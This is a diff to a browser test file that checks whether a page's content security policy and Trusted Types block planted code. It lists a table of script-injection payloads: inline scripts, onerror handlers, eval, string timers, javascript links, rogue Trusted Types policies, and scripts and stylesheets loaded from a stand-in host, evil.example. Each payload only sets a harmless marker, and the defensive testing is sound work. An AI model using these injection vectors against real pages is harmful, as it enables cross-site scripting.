@@ -6,21 +6,26 @@ const test = plain
 
 /** What somebody could plant who got a text onto a page, as the browser reads it. Each leaves `planted` when it runs; styles leave `--planted`. */
 const ATTACKS: Record<string, string> = {
-  'an inline script': "const script = document.createElement('script'); script.textContent = 'window.planted = 1'; document.head.append(script)",
+  'an inline script':
+    "const script = document.createElement('script'); script.textContent = 'window.planted = 1'; document.head.append(script)",
   'a handler in HTML': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.planted = 1">')`,
   'HTML through innerHTML': `document.body.appendChild(document.createElement('div')).innerHTML = '<img src="data:," onerror="window.planted = 1">'`,
   'code out of a text': "window.eval('window.planted = 1')",
   'a function out of a text': "new Function('window.planted = 1')()",
   'a timer with a text': "setTimeout('window.planted = 1', 0)",
-  'a script from elsewhere': "const script = document.createElement('script'); script.src = evil; document.head.append(script)",
+  'a script from elsewhere':
+    "const script = document.createElement('script'); script.src = evil; document.head.append(script)",
   'a script from elsewhere, through the shell': 'bringFile(evil).catch(() => {})',
-  'a script that no release of the page has, through the shell': "bringFile('/assets/mf-cases/0.0.1/entry.0123456789.js').catch(() => {})",
+  'a script that no release of the page has, through the shell':
+    "bringFile('/assets/mf-cases/0.0.1/entry.0123456789.js').catch(() => {})",
   'a policy of its own': "trustedTypes.createPolicy('evil', {}); window.planted = 1",
   'a second policy of our name': "trustedTypes.createPolicy('southbound', {}); window.planted = 1",
-  "DOMPurify's policy, where DOMPurify has not been fetched": "trustedTypes.createPolicy('dompurify', {}); window.planted = 1",
+  "DOMPurify's policy, where DOMPurify has not been fetched":
+    "trustedTypes.createPolicy('dompurify', {}); window.planted = 1",
   'a javascript link':
     "const link = Object.assign(document.createElement('a'), { href: 'javascript:window.planted = 1' }); document.body.append(link); link.click()",
-  'a style element': "const style = document.createElement('style'); style.textContent = ':root { --planted: 1 }'; document.head.append(style)",
+  'a style element':
+    "const style = document.createElement('style'); style.textContent = ':root { --planted: 1 }'; document.head.append(style)",
   'a style attribute': "document.documentElement.setAttribute('style', '--planted: 1')",
   'a stylesheet from elsewhere':
     "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: evil.replace('.js', '.css') }))",
@@ -30,7 +35,9 @@ const ATTACKS: Record<string, string> = {
 const EVIL = 'https://evil.example/planted.js'
 
 const hasRun = (page: Page) =>
-  page.evaluate<boolean>("Boolean(window.planted) || getComputedStyle(document.documentElement).getPropertyValue('--planted') !== ''")
+  page.evaluate<boolean>(
+    "Boolean(window.planted) || getComputedStyle(document.documentElement).getPropertyValue('--planted') !== ''",
+  )
 /** Later, by itself: what the test says at once is allowed more than a page is. */
 const plant = (page: Page, attack: string | undefined) =>
   page.evaluate(`void setTimeout(() => { const evil = ${JSON.stringify(EVIL)}; try { ${attack} } catch {} })`)
@@ -43,7 +50,9 @@ async function opened(page: Page, path: string): Promise<void> {
     }),
   )
   await page.goto(path)
-  await expect.poll(() => page.evaluate<number>("performance.getEntriesByName('interactive').length")).toBeGreaterThan(0)
+  await expect
+    .poll(() => page.evaluate<number>("performance.getEntriesByName('interactive').length"))
+    .toBeGreaterThan(0)
 }
 
 test('nothing planted on a page runs or shows', async ({ page }) => {
